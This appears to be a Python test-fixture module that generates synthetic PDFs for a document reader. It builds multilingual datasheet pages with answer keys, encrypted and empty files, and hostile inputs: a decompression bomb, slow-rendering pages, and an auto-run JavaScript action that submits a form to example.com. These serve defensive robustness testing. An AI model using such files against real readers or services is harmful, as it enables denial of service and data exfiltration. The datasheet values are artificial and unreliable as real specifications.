"""PDF documents made up for tests and benchmarks, with reportlab: text layers in English and Korean,
a table, a figure, scanned pages without a text layer, the broken files users send, and hostile ones
(a content stream that inflates to hundreds of MB, pages that are slow to read); and a large library
of datasheet pages as text, with a labelled question per page, for search at scale.

Korean text uses reportlab's built-in CID font (HYSMyeongJo-Medium, Adobe-Korea1): the text layer
is real Unicode without shipping a font file.
"""

from __future__ import annotations

import hashlib
import io
import random
import zlib
from dataclasses import dataclass

from PIL import Image, ImageDraw
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader, simpleSplit
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen import canvas
from reportlab.platypus import Table

from models.pdf import END_MARKER, HEADER, PageText

EXTERNAL_PDF = "tests/fixtures/shared-mime-info-spec.pdf"  # not made by Loupe: see tests/fixtures/PROVENANCE.md
KOREAN_FONT = "HYSMyeongJo-Medium"
MB = 1024 * 1024
pdfmetrics.registerFont(UnicodeCIDFont(KOREAN_FONT))

PARTS = ("regulator", "op-amp", "MOSFET", "comparator", "oscillator", "transceiver", "ADC", "LDO", "gate driver")
QUANTITIES = (
    ("maximum supply voltage", "V"),
    ("quiescent current", "µA"),
    ("operating temperature limit", "°C"),
    ("input offset voltage", "mV"),
    ("switching frequency", "kHz"),
    ("thermal resistance", "°C/W"),
)
KOREAN_PARTS = ("레귤레이터", "증폭기", "트랜지스터", "비교기", "발진기", "변환기")
KOREAN_QUANTITIES = (("최대 공급 전압", "V"), ("대기 전류", "µA"), ("동작 온도 한계", "°C"), ("스위칭 주파수", "kHz"))
FILLER = (
    "All parameters are specified over the recommended operating conditions unless otherwise noted. "
    "Typical values are measured at room temperature with nominal supply. Stresses beyond those listed "
    "may cause permanent damage to the device. Layout guidelines and thermal considerations follow."
)
KOREAN_FILLER = (
    "별도 표기가 없으면 모든 값은 권장 동작 조건에서 측정했습니다. 절대 최대 정격을 넘으면 소자가 손상될 수 있습니다."
)


@dataclass(frozen=True)
class Fact:
    page: int  # 1-based
    question: str
    answer: str  # the value, as the page writes it


def facts_pdf(pages: int, seed: int, korean: bool = False) -> tuple[bytes, list[Fact]]:
    """A datasheet of `pages` pages, each stating one fact among shared filler text, and the question each answers."""
    rng = random.Random(seed)
    parts, quantities = (KOREAN_PARTS, KOREAN_QUANTITIES) if korean else (PARTS, QUANTITIES)
    facts, texts = [], []
    for page in range(1, pages + 1):
        part, (quantity, unit) = rng.choice(parts), rng.choice(quantities)
        value = f"{rng.randint(2, 900)}.{rng.randint(0, 9)} {unit}"
        if korean:
            line = f"{part} 모델 K{page:03d}의 {quantity}은 {value}입니다."
            facts.append(Fact(page, f"K{page:03d} {part}의 {quantity}은 얼마인가요?", value))
        else:
            line = f"The {quantity} of the {part} model X{page:03d} is {value}."
            facts.append(Fact(page, f"What is the {quantity} of the X{page:03d} {part}?", value))
        texts.append(f"{KOREAN_FILLER if korean else FILLER} {line} {KOREAN_FILLER if korean else FILLER}")
    return text_pdf(texts, korean), facts


def text_pdf(pages: list[str], korean: bool = False) -> bytes:
    """One page per text, wrapped to the page width."""
    font = KOREAN_FONT if korean else "Helvetica"
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    for page in pages:
        lines = pdf.beginText(56, A4[1] - 72)
        lines.setFont(font, 11)
        for line in simpleSplit(page, font, 11, A4[0] - 112):
            lines.textLine(line)
        pdf.drawText(lines)
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def datasheet_pdf() -> bytes:
    """Four pages: English text, a table of ratings, a figure with a caption, and a scanned page (an image only)."""
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    pdf.setFont("Helvetica", 12)
    pdf.drawString(56, 770, "LX-7 buck converter. The soft-start time is 4.2 ms.")
    pdf.showPage()
    table = Table(
        [["Parameter", "Min", "Max", "Unit"], ["Input voltage", "4.5", "28", "V"], ["Output current", "", "3", "A"]]
    )
    table.wrapOn(pdf, 400, 200)
    table.drawOn(pdf, 56, 700)
    pdf.showPage()
    pdf.setStrokeColorRGB(0.1, 0.3, 0.8)
    pdf.lines([(80, 400 + x, 80 + 4 * x, 400 + (x * x) // 40) for x in range(0, 80, 4)])
    pdf.rect(60, 380, 420, 200)
    pdf.setFont("Helvetica", 10)
    pdf.drawString(60, 360, "Figure 3. Efficiency versus load current at 12 V input.")
    pdf.showPage()
    pdf.drawImage(ImageReader(scanned_page("Service bulletin 11: torque 25 Nm")), 0, 0, *A4)
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def scanned_page(words: str) -> Image.Image:
    """A page as a scanner gives it: a picture of text, no text layer."""
    image = Image.new("RGB", (620, 877), "white")
    ImageDraw.Draw(image).text((60, 80), words, fill="black")
    return image


def sized_pdf(width: float, height: float) -> bytes:
    """One page of `width` x `height` points (1/72 inch) with a line of text."""
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=(width, height))
    pdf.drawString(36, height - 72, "A very large drawing sheet.")
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def encrypted_pdf() -> bytes:
    out = io.BytesIO()
    pdf = canvas.Canvas(out, encrypt="secret")  # a user password: nothing opens without it
    pdf.drawString(56, 770, "Confidential.")
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def zero_page_pdf() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    return _assembled(objects)


def scripted_pdf() -> bytes:
    """A page with a form field and JavaScript that would run when the document opens, in a reader that runs it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] /Contents 6 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (serial) /Rect [72 600 300 630] /P 3 0 R >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://example.com'\\);) >>",
        _stream(b"BT /F1 12 Tf 72 700 Td (Enter the serial number.) Tj ET"),
    ]
    return _assembled(objects)


def inflating_pdf(megabytes: int) -> bytes:
    """One page whose FlateDecode content stream inflates to `megabytes` MB of spaces from about a
    thousandth of that: 512 MB from a 0.5 MB file. Built from one compressed megabyte, repeated (each
    copy ends with a full flush, so none refers back into the one before), without inflating it here."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate: the zlib header and checksum come below
    spaces = b" " * MB
    block = compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1  # adler32 of nothing
    for _ in range(megabytes):
        checksum = zlib.adler32(spaces, checksum)
    # zlib's header (deflate, best compression), the blocks, an empty final block, the checksum of what they inflate to
    packed = b"\x78\xda" + block * megabytes + b"\x03\x00" + checksum.to_bytes(4, "big")
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
        ]
    )


def slow_pdf(pages: int, strokes: int) -> bytes:
    """`pages` pages that each draw one form of `strokes` short lines, stored once and compressed about
    500 to 1: each page is a few bytes of the file and seconds of PDFium's work (1 million: about 1 s
    to read, 3 s to render, on one core of the machine in bench/RESULTS.md)."""
    form = zlib.compress(b"0 0 m 1 1 l S\n" * strokes, 9)
    kids = b" ".join(b"%d 0 R" % (5 + page) for page in range(pages))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /XObject << /Strokes 3 0 R >> >> >>"
    )
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream" % (len(form), form),
            _stream(b"/Strokes Do"),
            *[page] * pages,
        ]
    )


def crowded_pdf(lines: int) -> bytes:
    """One page of `lines` lines of 1-point type, 1,000 characters each: far more text than any page people
    read holds, in a few bytes a line (780 lines fit a letter page)."""
    line = b"0 -1 Td (" + b"AB " * 333 + b"x) Tj\n"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 %s >> >> >>" % font,
            _stream(b"BT /F1 1 Tf 0 780 Td\n" + line * lines + b"ET"),
        ]
    )


def _stream(content: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)


def _assembled(objects: list[bytes]) -> bytes:
    """A PDF file of these objects (numbered from 1, the first the catalog) with a correct cross-reference table."""
    out = bytearray(HEADER + b"1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, xref) + END_MARKER + b"\n"
    return bytes(out)


# A large library, as text pages (no PDFs to make): for search at scale ------------------------------

LIBRARY = """\
Per document: one part (a unique part number such as LX-0042 or KR-0043), 50 pages, every second
document in Korean. Each page states one of 60 parameters of that part with its value, between two
paragraphs of boilerplate that every datasheet repeats, and mentions the part number once more; no
parameter repeats within a document. A question names the part and the parameter, in the document's
language, and its answer is on exactly one page.
"""
PARAMETERS = (
    "supply voltage",
    "quiescent current",
    "shutdown current",
    "output current",
    "input offset voltage",
    "input bias current",
    "gain bandwidth product",
    "slew rate",
    "switching frequency",
    "dropout voltage",
    "line regulation",
    "load regulation",
    "thermal resistance",
    "junction temperature",
    "storage temperature",
    "ESD rating",
    "rise time",
    "fall time",
    "propagation delay",
    "output impedance",
    "input capacitance",
    "noise density",
    "power supply rejection ratio",
    "common mode rejection ratio",
    "startup time",
    "soft-start time",
    "reference voltage",
    "undervoltage lockout threshold",
    "overvoltage threshold",
    "current limit",
    "on-resistance",
    "gate charge",
    "leakage current",
    "breakdown voltage",
    "forward voltage",
    "reverse recovery time",
    "clock frequency",
    "sample rate",
    "resolution",
    "integral nonlinearity",
    "differential nonlinearity",
    "settling time",
    "wake-up time",
    "standby power",
    "efficiency",
    "package height",
    "pin pitch",
    "moisture sensitivity level",
    "operating humidity",
    "vibration rating",
    "insulation resistance",
    "isolation voltage",
    "creepage distance",
    "maximum duty cycle",
    "minimum on-time",
    "feedback voltage",
    "enable threshold",
    "watchdog timeout",
    "baud rate",
    "flash endurance",
)
KOREAN_PARAMETERS = (
    "공급 전압",
    "대기 전류",
    "차단 전류",
    "출력 전류",
    "입력 오프셋 전압",
    "입력 바이어스 전류",
    "이득 대역폭",
    "슬루율",
    "스위칭 주파수",
    "드롭아웃 전압",
    "라인 레귤레이션",
    "로드 레귤레이션",
    "열저항",
    "접합 온도",
    "보관 온도",
    "정전기 내성",
    "상승 시간",
    "하강 시간",
    "전파 지연",
    "출력 임피던스",
    "입력 커패시턴스",
    "잡음 밀도",
    "전원 제거비",
    "동상 제거비",
    "기동 시간",
    "소프트 스타트 시간",
    "기준 전압",
    "저전압 차단 문턱",
    "과전압 문턱",
    "전류 제한",
    "온 저항",
    "게이트 전하",
    "누설 전류",
    "항복 전압",
    "순방향 전압",
    "역회복 시간",
    "클록 주파수",
    "샘플링 속도",
    "분해능",
    "적분 비선형성",
    "미분 비선형성",
    "정착 시간",
    "웨이크업 시간",
    "대기 전력",
    "효율",
    "패키지 높이",
    "핀 간격",
    "습기 민감도",
    "동작 습도",
    "진동 등급",
    "절연 저항",
    "절연 전압",
    "연면 거리",
    "최대 듀티비",
    "최소 온 시간",
    "피드백 전압",
    "활성화 문턱",
    "워치독 시간",
    "통신 속도",
    "플래시 내구성",
)
PAGES_PER_DOCUMENT = 50


@dataclass(frozen=True)
class Question:
    text: str
    sha256: str
    page: int


def library(documents: int, seed: int) -> tuple[list[tuple[str, str, list[PageText]]], list[Question]]:
    """The library's documents (name, sha256, pages) and one labelled question per page."""
    rng = random.Random(seed)
    made, questions = [], []
    for number in range(documents):
        korean = number % 2 == 1
        part = f"{'KR' if korean else 'LX'}-{number:04d}"
        parameters = KOREAN_PARAMETERS if korean else PARAMETERS
        chosen = rng.sample(range(len(parameters)), PAGES_PER_DOCUMENT)
        pages, sha256 = [], hashlib.sha256(f"document {number}".encode()).hexdigest()
        for page, index in enumerate(chosen, start=1):
            value = f"{rng.randint(1, 999)}.{rng.randint(0, 9)}"
            filler = KOREAN_FILLER if korean else FILLER
            if korean:
                fact = f"{part}의 {parameters[index]}은 {value}입니다. {part} 사용 시 주의 사항은 뒤에 있습니다."
                questions.append(Question(f"{part}의 {parameters[index]}은 얼마인가요?", sha256, page))
            else:
                fact = f"The {parameters[index]} of the {part} is {value}. See the {part} application notes."
                questions.append(Question(f"What is the {parameters[index]} of the {part}?", sha256, page))
            pages.append(PageText(page, f"{filler}\n{fact}\n{filler}", 595.0, 842.0))
        made.append((f"{part}.pdf", sha256, pages))
    return made, questions
